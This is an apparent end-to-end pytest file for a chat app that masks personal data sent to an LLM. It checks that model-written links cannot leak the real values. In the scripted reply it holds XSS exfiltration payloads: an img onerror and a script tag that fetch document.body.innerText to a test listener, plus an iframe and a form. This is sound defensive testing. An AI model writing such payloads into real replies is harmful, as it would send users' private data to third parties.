"""Links a model writes cannot carry real values away (issue 17, "restore only where text is shown"), in the
real page: a scripted provider answers with links, images, HTML and script built from the fakes it was
sent; a listener on 127.0.0.1 stands for every host those links name and must never see a real value.
The page restores text nodes only: no attribute holds a real value; a click on a link asks first and
shows its exact target; only a link to one of the user's own addresses offers the real one, after a
second click. Also the renderer's bad input: a reply streamed one character per chunk (every fake split
at every offset), and a 1 MB reply."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote, unquote_plus

import pytest
from e2e_support import DEFAULT_TIMEOUT_MS
from test_chat import add_provider, create_account, new_conversation, open_app, send, wait_for_reply

from openmasq.site.serve import BackgroundServer
from openmasq.testing.upstream import (
    SSE_HEADERS,
    Received,
    Reply,
    ScriptedUpstream,
    echo_script,
    last_user_text,
    openai_stream,
)

NAME, EMAIL, PHONE = "Claire Vasseur", "claire.vasseur@ateliers-brunet.fr", "06 12 34 56 78"
HOST = "www.ateliers-brunet.fr"
MESSAGE = f"Écris à {NAME} ({EMAIL}), tel {PHONE}, site https://{HOST}/contact."
# Every spelling of a real value a URL, a body or a header could carry.
REALS = (NAME, "Vasseur", "claire.vasseur", "ateliers-brunet", PHONE, PHONE.replace(" ", ""), quote(NAME),
         quote(NAME, safe=""), NAME.replace(" ", "+"))
SENT = re.compile(r"Écris à (?P<name>[^(]+?) \((?P<email>[^)]+)\), tel (?P<phone>[^,]+), site https://(?P<host>[^/]+)/contact\.")
# Every attribute value under the messages, and the text the user reads there.
ATTRIBUTES_JS = """() => [...document.querySelectorAll('[data-testid=messages] *')]
    .flatMap((el) => [...el.attributes].map((a) => `${el.tagName}.${a.name}=${a.value}`))"""


def visits(listener: ScriptedUpstream) -> list[str]:
    """The paths the listener was asked for (the favicon a new tab asks for on its own aside)."""
    return [r.path for r in listener.received if r.path != "/favicon.ico"]


def leaks(text: str) -> list[str]:
    return [value for value in REALS if value in text or value in unquote_plus(text)]


class LinkModel:
    """Answers each chat request with `reply(fakes)`, built from the fakes found in the user's text, streamed
    in pieces of `piece` characters; the model list and anything else as the echo server does."""

    def __init__(self, listener: str) -> None:
        self.listener = listener
        self.piece = 7
        self.reply = self.links
        self.fakes: dict[str, str] = {}

    def __call__(self, received: Received) -> Reply:
        if received.method != "POST" or received.json().get("stream") is not True:
            return echo_script(received)
        found = SENT.search(last_user_text(received))
        self.fakes = found.groupdict() if found else {}
        text = self.reply(self.fakes) if found else "Je n'ai pas compris."
        return Reply(chunks=openai_stream([text[i:i + self.piece] for i in range(0, len(text), self.piece)]),
                     headers=SSE_HEADERS)

    def links(self, f: dict[str, str]) -> str:
        at = self.listener
        return (
            f"Voici pour {f['name']} :\n\n"
            f"- [profil]({at}/profil?who={quote(f['name'])})\n"
            f"- [{f['name']}]({at}/p/{quote(f['name'])} \"{f['name']}\")\n"
            f"- [https://www.linkedin.com/]({at}/search?q={f['name'].replace(' ', '+')})\n"
            f"- ![photo de {f['name']}]({at}/photo.png?n={quote(f['name'])})\n"
            f"- <a href=\"mailto:{f['email']}\" title=\"{f['email']}\">écrire</a>, "
            f"[appeler](tel:{f['phone'].replace(' ', '')})\n"
            f"- [le site](https://{f['host']}/contact?n={quote(f['name'])})\n"
            f"- {f['email']}\n\n"
            f"<img src=\"{at}/x.png\" onerror=\"fetch('{at}/onerror?'+document.body.innerText)\">"
            f"<script>fetch('{at}/script?'+document.body.innerText)</script>"
            f"<iframe src=\"{at}/frame\"></iframe>"
            f"<form action=\"{at}/form\"><input name=q value=\"{f['name']}\"></form>"
            f"<svg><a href=\"{at}/svg\"><text>svg</text></a></svg>\n"
        )


@pytest.fixture(scope="module")
def listener() -> Iterator[ScriptedUpstream]:
    """Every host the model's links name: it records what reaches it and answers a blank page."""
    with ScriptedUpstream(lambda r: Reply(headers={"content-type": "text/plain"}, body=b"ok"), cors=True) as up:
        yield up


@pytest.fixture(scope="module")
def model(listener: ScriptedUpstream) -> Iterator[tuple[ScriptedUpstream, LinkModel]]:
    script = LinkModel(listener.origin)
    with ScriptedUpstream(script, cors=True) as upstream:
        yield upstream, script


@pytest.fixture(scope="module")
def chat(browser: Any, built_site: Any, model: tuple[ScriptedUpstream, LinkModel]) -> Iterator[Any]:
    """One account with the scripted provider, for the whole module (each test opens a conversation)."""
    server = BackgroundServer(built_site.out, port=0).start()
    context = browser.new_context(locale="fr-FR")
    context.set_default_timeout(DEFAULT_TIMEOUT_MS)
    wire: list[str] = []
    lock = threading.Lock()

    def keep(request: Any) -> None:
        with lock:
            wire.append(request.url + "\n" + (request.post_data or ""))

    context.on("request", keep)
    try:
        page = open_app(context, server.url)
        create_account(page)
        add_provider(page, model[0].base_url)
        page.click("[data-route=chat]")
        page.wire = wire  # type: ignore[attr-defined]
        yield page
    finally:
        context.close()
        server.stop()


def test_a_reply_full_of_links_shows_real_text_and_keeps_every_target_as_the_model_wrote_it(
    chat: Any, model: tuple[ScriptedUpstream, LinkModel], listener: ScriptedUpstream, shoot: Any
) -> None:
    page = chat
    new_conversation(page)
    send(page, MESSAGE)
    reply = wait_for_reply(page)
    fakes = model[1].fakes
    assert fakes and fakes["name"] != NAME
    shown = reply.locator(".markdown").inner_text()
    assert f"Voici pour {NAME}" in shown and EMAIL in shown  # text nodes got the real values back
    assert fakes["name"] not in shown
    attributes = "\n".join(page.evaluate(ATTRIBUTES_JS))
    assert leaks(attributes) == []  # no href, src, title or data attribute holds a real value
    links = reply.locator(".markdown a")
    assert links.count() >= 6 and reply.locator(".markdown a[data-model-link]").count() == links.count()
    assert quote(fakes["name"]) in (links.first.get_attribute("href") or "")
    # The remote image became its alt text; the script, the iframe, the form and onerror are gone.
    assert reply.locator(".markdown img, .markdown script, .markdown iframe, .markdown form").count() == 0
    assert f"[photo de {NAME}]" in shown
    shoot(page, "reply-links", full_page=False)
    assert visits(listener) == []  # nothing was fetched by rendering it
    # The payload's onerror met the page's CSP while DOMPurify parsed it (its handler was refused, and the
    # sanitiser dropped it): that refusal is the only console error.
    assert [e for e in page.ui_errors if "inline event handler" not in e] == []


def test_following_a_link_asks_first_shows_its_exact_target_and_sends_only_fakes(
    chat: Any, model: tuple[ScriptedUpstream, LinkModel], listener: ScriptedUpstream, shoot: Any
) -> None:
    page = chat
    reply = page.locator("[data-role=assistant]").last
    fakes = model[1].fakes
    # A link whose text says linkedin.com: the dialog shows where it really goes.
    reply.locator(".markdown a", has_text="linkedin").click()
    target = page.locator("[data-testid=link-target]")
    target.wait_for()
    # As the browser writes the URL: a fake with an accent ("Théraulaz") is percent-encoded.
    query = quote(fakes["name"].replace(" ", "+"), safe="+")
    assert target.inner_text() == f"{listener.origin}/search?q={query}"
    page.locator("[data-testid=link-dialog-state][data-state=checked]").wait_for()
    assert page.locator("[data-action=open-real-link]").count() == 0  # a third party's host: never the real values
    with page.context.expect_page() as opened:
        page.click("[data-action=open-link]")
    opened.value.wait_for_load_state()
    opened.value.close()
    assert visits(listener) == [f"/search?q={query}"]
    # Cancelling opens nothing.
    reply.locator(".markdown a", has_text="profil").click()
    page.locator(".link-dialog").get_by_role("button", name="Annuler").click()
    assert page.locator(".link-dialog").count() == 0 and len(visits(listener)) == 1
    assert leaks("\n".join(r.path + str(r.headers) for r in listener.received)) == []


@pytest.mark.parametrize(("text", "real"), [("le site", f"https://{HOST}/contact?n={quote(NAME)}"),
                                            ("écrire", f"mailto:{EMAIL}")])
def test_a_link_to_the_users_own_address_offers_the_real_one_only_after_showing_it_in_full(
    chat: Any, model: tuple[ScriptedUpstream, LinkModel], text: str, real: str
) -> None:
    page = chat
    reply = page.locator("[data-role=assistant]").last
    reply.locator(".markdown a", has_text=text).click()
    page.locator("[data-testid=link-real-target]").wait_for()
    assert page.locator("[data-testid=link-target]").inner_text() == reply.locator(
        ".markdown a", has_text=text).get_attribute("href")
    assert page.locator("[data-testid=link-real-target]").inner_text() == real
    assert page.locator("[data-action=open-real-link]").is_visible()
    page.locator(".link-dialog").get_by_role("button", name="Annuler").click()


def test_a_reply_streamed_one_character_at_a_time_restores_every_fake_split_at_every_offset(
    chat: Any, model: tuple[ScriptedUpstream, LinkModel]
) -> None:
    page = chat
    script = model[1]
    script.piece = 1
    script.reply = lambda f: (f"{f['name']} ; {f['email']} ; {f['phone']} ; "
                              f"https://{f['host']}/contact ; **{f['name']}**.")
    expected = f"{NAME} ; {EMAIL} ; {PHONE} ; https://{HOST}/contact ; {NAME}."
    try:
        new_conversation(page)
        send(page, MESSAGE)
        reply = wait_for_reply(page)
    finally:
        script.piece, script.reply = 7, script.links
    assert reply.locator(".markdown").inner_text().strip() == expected
    assert leaks("\n".join(page.evaluate(ATTRIBUTES_JS))) == []


def test_a_one_megabyte_reply_renders_restored_and_the_page_stays_responsive(
    chat: Any, model: tuple[ScriptedUpstream, LinkModel], listener: ScriptedUpstream
) -> None:
    page = chat
    script = model[1]
    before = len(visits(listener))
    paragraph = "Paragraphe {n} : {name} écrit à [{email}](mailto:{email}) depuis https://{host}/ ; rien d'autre.\n\n"

    def big(f: dict[str, str]) -> str:
        out, n = [], 0
        while sum(map(len, out)) < 1_000_000:
            out.append(paragraph.format(n=n, **f))
            n += 1
        return "".join(out) + "FIN"

    script.piece, script.reply = 65_536, big
    try:
        new_conversation(page)
        send(page, MESSAGE)
        page.locator("article.streaming[data-role=assistant]").wait_for()
        assert page.evaluate("() => 1 + 1") == 2  # the page answers while the reply streams in
        reply = wait_for_reply(page)
    finally:
        script.piece, script.reply = 7, script.links
    text = reply.locator(".markdown").inner_text()
    assert text.rstrip().endswith("FIN") and len(text) > 600_000  # the markdown's own syntax is not shown
    assert text.count(NAME) == text.count("Paragraphe ") and model[1].fakes["name"] not in text
    hrefs = page.evaluate("() => [...document.querySelectorAll('[data-role=assistant]:last-of-type .markdown a')]"
                          ".slice(0, 50).map((a) => a.getAttribute('href'))")
    fakes = model[1].fakes
    assert set(hrefs) == {f"mailto:{fakes['email']}", f"https://{fakes['host']}/"}  # as the model wrote them
    assert len(visits(listener)) == before
    # Across the whole module, no request of the page, its workers or the service worker carried a real value.
    assert leaks("\n".join(page.wire)) == []
